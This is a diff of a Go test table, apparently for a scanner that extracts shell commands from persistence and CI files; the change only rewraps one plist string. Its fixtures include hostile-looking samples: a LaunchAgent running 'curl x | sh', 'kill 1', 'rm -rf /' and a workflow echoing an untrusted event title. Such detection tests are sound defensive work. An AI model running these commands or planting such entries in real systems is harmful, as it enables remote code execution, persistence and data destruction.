@@ -185,7 +185,9 @@ func TestPayloads(t *testing.T) {
 			[]string{"sh:/bin/sh -c 'id; \n x'", "sh:kill 1"}},
 		{"desktop", "~/.config/autostart/x.desktop", "[Desktop Entry]\nExec=sh -c id", []string{"sh:sh -c id"}},
 		{"plist", "~/Library/LaunchAgents/x.plist",
-			"<plist><dict><key>Label</key><string>x</string><key>ProgramArguments</key><array><string>sh</string><string>-c</string><string>curl x | sh</string></array></dict></plist>", []string{"sh:sh -c 'curl x | sh'"}},
+			"<plist><dict><key>Label</key><string>x</string><key>ProgramArguments</key><array>" +
+				"<string>sh</string><string>-c</string><string>curl x | sh</string></array></dict></plist>",
+			[]string{"sh:sh -c 'curl x | sh'"}},
 		{"ci", ".github/workflows/x.yml",
 			"on: push\njobs:\n  a:\n    steps:\n      - uses: x@v1\n      - name: rm -rf /\n        run: |\n" +
 				"          echo ${{ github.event.title }}\n      - run: print(1)\n        shell: python\n",
